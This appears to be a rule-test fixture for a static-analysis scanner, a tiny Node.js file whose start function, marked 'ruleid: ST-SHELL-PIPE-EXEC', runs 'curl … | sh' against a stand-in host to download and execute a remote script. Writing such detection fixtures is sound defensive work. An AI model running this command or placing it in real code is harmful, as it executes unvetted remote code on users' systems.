const { execSync } = require('child_process');

exports.start = () => {
  // ruleid: ST-SHELL-PIPE-EXEC
  execSync('curl -s http://collector.example.invalid/i | sh');
};
